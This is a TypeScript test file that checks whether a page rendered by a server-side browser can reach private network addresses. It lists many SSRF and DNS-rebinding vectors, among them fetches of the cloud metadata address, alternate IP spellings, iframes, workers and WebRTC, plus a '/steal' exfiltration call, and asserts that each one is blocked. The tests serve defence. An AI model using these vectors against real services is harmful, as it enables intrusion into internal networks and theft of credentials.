/**
 * A stranger's page that is rendered in a network with private addresses that the operator has opened. It
 * tries all that a page can do to reach them. Runs in a small internet, where each connection is seen.
 */
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { after, before, beforeEach, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { createPageRenderer } from '#browser';
import { type Egress, openEgress, parseCidr } from '#egress';
import { getMetadata, type PageMetadata } from '#metadata';
import { openSlots, type TestSlots } from '../browser/open-slots.ts';
import { type DnsBench, startDnsBench } from '../support/dns-resolver.ts';
import { sample } from '../support/sample.ts';
import { answerRebind } from '../support/site-zones.ts';
import {
  findSmallInternetObstacle,
  isInSmallInternet,
  runInSmallInternet,
} from '../support/small-internet.ts';
import { scaledMs } from '../support/patience.ts';

const STRANGER = '93.184.215.10';
const PUBLIC = '93.184.215.20';
const PRIVATE = '10.0.0.5';
const A = 'http://stranger.test-zone.com';
const INTRANET = 'http://intranet.test-zone.com';

/** A page whose title says what became of the promise of an expression: "got" and its text, or "blocked". */
const tell = (expression: string): string =>
  `<script type=module>const tell = (text) => { document.title = text }; Promise.resolve().then(() => ${expression}).then((r) => tell('got ' + r), () => tell('blocked'))</script><div id=app></div>`;
const text = (url: string, options = ''): string => `fetch('${url}'${options}).then((r) => r.text())`;

if (isInSmallInternet) describe('a rendered page', attack);
else
  it('passes in a small internet', { skip: findSmallInternetObstacle() }, async () => {
    await runInSmallInternet(fileURLToPath(import.meta.url));
  });

function attack(): void {
  let dns: DnsBench;
  let site: Server;
  let egress: Egress;
  let slots: TestSlots;
  /** The content of a path of any host. */
  let pages: Record<string, string> = {};
  /** The requests by local address. */
  let requests: string[] = [];

  before(async () => {
    dns = await startDnsBench({
      zones: {
        'stranger.test-zone.com': { A: [STRANGER] },
        'public.test-zone.com': { A: [PUBLIC] },
        'intranet.test-zone.com': { A: [PRIVATE] },
      },
      answer: (question) => answerRebind(question, STRANGER),
    });
    site = createServer((request, response) => {
      const { localAddress } = request.socket;
      const [path = '/', query] = (request.url ?? '/').split('?');
      requests.push(`${localAddress} ${request.method} ${request.url}`);
      const headers = {
        'access-control-allow-origin': '*',
        'cache-control': 'no-store',
        connection: 'close',
      };
      if (path === '/r')
        response.writeHead(302, { ...headers, location: decodeURIComponent(query ?? '') }).end();
      else
        response
          .writeHead(200, {
            ...headers,
            'content-type': path.endsWith('.js') ? 'text/javascript' : 'text/html',
          })
          .end(pages[path] ?? `secret of ${localAddress}`);
    }).listen(80, '0.0.0.0');
    egress = openEgress({
      resolver: dns.resolver,
      policy: {
        allowCidrs: ['10.0.0.0/8', '127.0.0.0/8', '192.168.0.0/16', '169.254.0.0/16'].map((block) =>
          parseCidr(block)!,
        ),
        denyCidrs: [],
        ports: [80],
        denyEndpoints: () => [],
      },
      userAgent: 'test',
      connectionsPerHost: 6,
      now: Date.now,
    });
    slots = await openSlots({ useNetworkNamespace: false });
    assert.ok(slots.status().ready, JSON.stringify(slots.status()));
  });
  after(async () => {
    await slots.close();
    egress.close();
    site.close();
    await dns[Symbol.asyncDispose]();
  });
  beforeEach(() => {
    requests = [];
    pages = {};
  });

  function describePage(url: string, site: Record<string, string>): Promise<PageMetadata> {
    pages = site;
    const { openResourceFetcher, fetchPage } = egress;
    const renderPage = createPageRenderer({
      slots,
      openResourceFetcher,
      rendererMemoryMb: 600,
      now: Date.now,
    });
    return getMetadata(
      { url, followRedirects: true, timeoutMs: scaledMs(10_000), details: true, render: 'true' },
      {
        fetchPage,
        renderPage: (request, signal) => renderPage(request, { accountId: 'a' }, signal),
        client: 'a',
        now: Date.now,
      },
    );
  }
  const reached = (address: string): string[] => requests.filter((line) => line.startsWith(`${address} `));

  const vectors: [name: string, expression: string][] = [
    ['fetch', text(`${INTRANET}/x`)],
    ['fetch without CORS', text(`${INTRANET}/x`, `, { mode: 'no-cors' }`)],
    ['fetch of an address', text('http://10.0.0.5/x')],
    ['fetch of another spelling of an address', text('http://167772165/x')],
    ['fetch of loopback', text('http://127.0.0.1/x')],
    ['fetch of localhost', text('http://localhost/x')],
    ['fetch of the metadata service', text('http://169.254.169.254/latest/meta-data/')],
    ['fetch of a mapped address', text('http://[::ffff:10.0.0.5]/x')],
    ['a redirect', text(`/r?${INTRANET}/x`)],
    ['a redirect of another public host', text(`http://public.test-zone.com/r?${INTRANET}/x`)],
    ['HEAD', `fetch('${INTRANET}/x', { method: 'HEAD' })`],
    ['POST', text(`${INTRANET}/x`, `, { method: 'POST', body: 'x' }`)],
    [
      'XMLHttpRequest',
      `new Promise((ok, no) => { const x = new XMLHttpRequest(); x.onload = () => ok(x.responseText); x.onerror = no; x.open('GET', '${INTRANET}/x'); x.send() })`,
    ],
    ['a module', `import('${INTRANET}/m.js')`],
    ['a module of a redirect', `import('/r?${INTRANET}/m.js')`],
    [
      'a script',
      `new Promise((ok, no) => { const s = document.createElement('script'); s.onload = ok; s.onerror = no; s.src = '${INTRANET}/m.js'; document.head.append(s) })`,
    ],
    [
      'a style sheet',
      `new Promise((ok, no) => { const s = document.createElement('link'); s.rel = 'stylesheet'; s.onload = ok; s.onerror = no; s.href = '${INTRANET}/m.css'; document.head.append(s) })`,
    ],
    [
      'an import of a style sheet',
      `new Promise((ok, no) => { const s = document.createElement('style'); s.onload = ok; s.onerror = no; s.textContent = '@import "${INTRANET}/m.css"'; document.head.append(s) })`,
    ],
    [
      'a picture',
      `new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = '${INTRANET}/x.png' })`,
    ],
    [
      'a preload',
      `new Promise((ok, no) => { const s = document.createElement('link'); s.rel = 'preload'; s.as = 'fetch'; s.onload = ok; s.onerror = no; s.href = '${INTRANET}/x'; document.head.append(s) })`,
    ],
    [
      'events',
      `new Promise((ok, no) => { const e = new EventSource('${INTRANET}/x'); e.onopen = ok; e.onerror = no })`,
    ],
    [
      'a socket',
      `new Promise((ok, no) => { const s = new WebSocket('ws://10.0.0.5/x'); s.onopen = ok; s.onerror = no })`,
    ],
    [
      'a worker',
      `new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("${INTRANET}/x").then((r) => r.text()).then(postMessage, () => postMessage(""))']))); w.onmessage = (e) => e.data ? ok(e.data) : no() })`,
    ],
    [
      'a script of a worker',
      `new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(['try { importScripts("${INTRANET}/m.js"); postMessage("ok") } catch { postMessage("") }']))); w.onmessage = (e) => e.data ? ok(e.data) : no() })`,
    ],
    [
      'a frame',
      `new Promise((ok, no) => { const f = document.createElement('iframe'); f.src = '${INTRANET}/x'; document.body.append(f); setTimeout(() => { try { f.contentDocument.title; no() } catch { ok('another origin') } }, 900) })`,
    ],
    [
      'a frame in a frame',
      `new Promise((ok, no) => { const f = document.createElement('iframe'); f.srcdoc = '<iframe src="${INTRANET}/x"></iframe><script>fetch("${INTRANET}/x").then((r) => r.text()).then((t) => parent.postMessage(t, "*"), () => parent.postMessage("", "*"))<' + '/script>'; onmessage = (e) => e.data ? ok(e.data) : no(); document.body.append(f) })`,
    ],
    ['a beacon', `navigator.sendBeacon('${INTRANET}/x', 'x') && Promise.reject()`],
    [
      'a peer connection',
      `new Promise((ok, no) => { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:10.0.0.5:80' }] }); p.createDataChannel('x'); p.onicecandidate = (e) => e.candidate ? ok(e.candidate.candidate) : no(); p.createOffer().then((o) => p.setLocalDescription(o)); setTimeout(no, 900) })`,
    ],
    ['a service worker', `navigator.serviceWorker.register('${INTRANET}/sw.js')`],
    ['another window', `open('${INTRANET}/x') ?? Promise.reject()`],
  ];
  for (const [name, expression] of sample(vectors, 3))
    it(`of a stranger does not reach what the operator has opened: ${name}`, async () => {
      const { title, details } = await describePage(`${A}/`, {
        '/': tell(expression),
        '/m.js': 'export const x = 1',
      });
      assert.deepEqual([title, details?.rendered], ['blocked', true]);
      assert.deepEqual(
        requests.filter((line) => !line.startsWith('93.184.')),
        [],
      );
    });

  it('of a stranger reaches public hosts, as their CORS headers allow', async () => {
    const { title } = await describePage(`${A}/`, { '/': tell(text('http://public.test-zone.com/x')) });
    assert.equal(title, `got secret of ${PUBLIC}`);
  });

  it('of a stranger cannot use the name that led to it for another address (DNS rebinding)', async () => {
    const rebinding = describePage('http://rebind1.test-zone.com/', {
      '/': tell(`new Promise((ok) => setTimeout(ok, 100)).then(() => ${text('/x')})`),
    });
    site.once('request', () => {
      dns.clock.advance(3_600);
    });
    const { title } = await rebinding;
    assert.equal(title, 'blocked');
    assert.ok(dns.server.count('rebind1.test-zone.com', 'A') > 1, 'the second answer was 127.0.0.1');
    assert.deepEqual(requests, [`${STRANGER} GET /`]);
  });

  it('of a stranger leads no further than to public pages', async () => {
    for (const leave of [
      `location = '${INTRANET}/x'`,
      `location = '/r?${INTRANET}/x'`,
      `document.write('<meta http-equiv=refresh content="0;url=${INTRANET}/x">')`,
    ]) {
      const { title, details } = await describePage(`${A}/`, {
        '/': `<title>stranger</title><script>${leave}</script>`,
      });
      assert.equal(title, 'stranger');
      assert.equal(details?.finalUrl, `${A}/`);
      assert.deepEqual(reached(PRIVATE), []);
    }
  });

  it('that the operator has opened is rendered with what it loads from such addresses', async () => {
    const { title } = await describePage(`${INTRANET}/`, { '/': tell(text('/x')) });
    assert.equal(title, `got secret of ${PRIVATE}`);
  });

  it('that the operator has opened sends nothing out, and loads nothing from outside', async () => {
    for (const expression of [text(`${A}/steal?x`), `import('${A}/m.js')`]) {
      const { title } = await describePage(`${INTRANET}/`, { '/': tell(expression), '/m.js': '' });
      assert.equal(title, 'blocked');
    }
    const { details } = await describePage(`${INTRANET}/`, {
      '/': `<script>location = '${A}/steal?x'</script>`,
    });
    assert.equal(details?.finalUrl, `${INTRANET}/`);
    assert.deepEqual(reached(STRANGER), []);
  });

  it('that the operator has opened is not rendered if a stranger led to it, by a redirect or a refresh', async () => {
    for (const [path, html] of [
      [`/r?${INTRANET}/app`, ''],
      ['/refresh', `<meta http-equiv=refresh content="0;url=${INTRANET}/app">`],
    ] as const) {
      requests = [];
      const { title, details } = await describePage(A + path, {
        '/refresh': html,
        '/app': `<title>app</title><script src=/x></script>`,
      });
      assert.deepEqual([title, details?.rendered], ['app', false]);
      assert.deepEqual(reached(PRIVATE), [`${PRIVATE} GET /app`]);
    }
  });
}
